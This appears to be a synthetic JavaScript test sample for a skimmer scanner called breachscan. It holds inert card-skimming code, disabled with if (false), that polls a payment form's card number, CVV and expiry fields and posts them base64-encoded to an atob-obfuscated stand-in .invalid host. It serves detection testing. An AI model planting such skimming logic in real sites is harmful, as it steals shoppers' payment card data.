/* synthetic test sample for breachscan: polling skimmer shape - a timer reads the card number,
 * expiry and CVV fields every half second and posts them, base64 encoded, to an address
 * hidden with atob. Inert (`if (false)`, .invalid host). */
if (false) {
  var seen = "";
  setInterval(function () {
    var n = document.querySelector("[name='payment[cc_number]']"), c = document.querySelector("[name='payment[cc_cid]']"),
        m = document.querySelector("[name='payment[cc_exp_month]']");
    if (!n || !c || !n.value || (n.value + c.value) === seen) return;
    seen = n.value + c.value;
    var x = new XMLHttpRequest();
    x.open("POST", atob("aHR0cHM6Ly9zdGF0aWMtY2RuLmludmFsaWQvcA=="));
    x.send(btoa(n.value + "|" + c.value + "|" + m.value));
  }, 500);
}
